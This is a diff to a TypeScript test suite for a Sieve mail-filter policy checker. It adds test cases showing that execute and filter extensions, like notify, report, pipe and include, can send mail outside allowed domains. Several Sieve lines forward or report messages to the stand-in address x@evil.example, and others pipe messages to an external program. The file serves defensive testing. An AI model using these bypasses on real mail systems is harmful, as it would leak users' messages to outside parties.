@@ -5,7 +5,7 @@
 // the API (app.inject) and in `sievewright check --policy`, naming the raw
 // block and the line of the sending command. A literal address in an
 // allowed domain passes all three.
-import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { FastifyInstance } from 'fastify';
@@ -20,14 +20,18 @@ import { capture } from '../support/capture.js';
 import { pigeonhole, run, type PigeonholeTools, type RunResult } from '../support/mailstack.js';
 import { ADMIN, addUser, Client, startApp } from './app/harness.js';
 
-const EXTRA = ['notify', 'vnd.dovecot.report', 'vnd.dovecot.pipe'];
+const EXTRA = ['notify', 'vnd.dovecot.report', 'vnd.dovecot.pipe', 'vnd.dovecot.execute', 'vnd.dovecot.filter'];
 const CAPABILITIES = [...PIGEONHOLE_CAPABILITIES, ...EXTRA];
 
 interface Case {
   name: string;
   requires: string[];
   sieve: string;
-  /** What sieve-test lists among the performed actions; null when Pigeonhole refuses the script. */
+  /**
+   * What sieve-test lists among the performed actions; null when Pigeonhole
+   * refuses the script; `program` when the proof is the message reaching the
+   * program (it runs while the script is interpreted).
+   */
   shows: string | null;
   /** Line of the sending command in the block. */
   line: number;
@@ -54,6 +58,8 @@ const BYPASSES: Case[] = [
   { name: 'deprecated notify', requires: ['notify'], sieve: 'notify :method "mailto" :options "x@evil.example";', shows: '+ To: x@evil.example', line: 1 },
   { name: 'report', requires: ['vnd.dovecot.report'], sieve: 'report "abuse" "see this" "x@evil.example";', shows: 'report incoming message as `abuse\' to: <x@evil.example>', line: 1 },
   { name: 'pipe', requires: ['vnd.dovecot.pipe'], sieve: 'pipe "mailer";', shows: "pipe message to external program 'mailer'", line: 1 },
+  { name: 'execute test', requires: ['vnd.dovecot.execute'], sieve: 'if execute :pipe "mailer" {\n  keep;\n}', shows: 'program', line: 1 },
+  { name: 'filter test', requires: ['vnd.dovecot.filter'], sieve: 'if true {\n  if not filter "mailer" {\n    stop;\n  }\n}', shows: 'program', line: 2 },
   // forwarder.sieve, in the user's script storage, redirects outside.
   { name: 'include', requires: ['include'], sieve: 'include "forwarder";', shows: 'redirect message to: <x@evil.example>', line: 1 },
 ];
@@ -85,14 +91,23 @@ const policy = (redirectOutside: Policy['redirectOutside']) => ({
 
 let tools: PigeonholeTools;
 const dir = mkdtempSync(join(tmpdir(), 'sw-policy-'));
+const received = join(dir, 'received');
 
 beforeAll(async () => {
   chmodSync(dir, 0o755);
-  writeFileSync(join(dir, 'mailer'), '#!/bin/sh\ncat >/dev/null\n', { mode: 0o755 });
+  // The program keeps what it is given where the test can read it; it runs as the mail user.
+  mkdirSync(received, { mode: 0o777 });
+  chmodSync(received, 0o777);
+  writeFileSync(join(dir, 'mailer'), `#!/bin/sh\ncat > ${received}/message\n`, { mode: 0o755 });
   writeFileSync(join(dir, 'forwarder.sieve'), 'redirect "x@evil.example";\n', { mode: 0o644 });
   tools = await pigeonhole({
-    extensions: '+notify +vnd.dovecot.report +vnd.dovecot.pipe',
-    settings: `  sieve_plugins = sieve_extprograms\n  sieve_pipe_bin_dir = ${dir}\n  sieve = file:${dir}\n`,
+    extensions: '+notify +vnd.dovecot.report +vnd.dovecot.pipe +vnd.dovecot.execute +vnd.dovecot.filter',
+    settings: [
+      '  sieve_plugins = sieve_extprograms',
+      ...['pipe', 'execute', 'filter'].map((kind) => `  sieve_${kind}_bin_dir = ${dir}`),
+      `  sieve = file:${dir}`,
+      '',
+    ].join('\n'),
   });
 });
 
@@ -109,9 +124,11 @@ describe('each bypass really sends mail outside (sieve-test on the deployed scri
   test.each(BYPASSES.filter((c) => c.shows !== null))('$name', async (c) => {
     const compiled = compileRuleSet(ruleSetOf(c), { capabilities: CAPABILITIES });
     expect(compiled.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+    rmSync(join(received, 'message'), { force: true });
     const r = await tools.sieveTest(compiled.sieve, MESSAGE);
     expect(r.exitCode, r.stderr).toBe(0);
-    expect(performed(r.stdout)).toContain(c.shows);
+    if (c.shows === 'program') expect(readFileSync(join(received, 'message'), 'utf8')).toContain('Subject: hello');
+    else expect(performed(r.stdout)).toContain(c.shows);
   });
 
   test('a redirect to a string list is not Sieve: Pigeonhole refuses the script, and the check still judges each address', async () => {
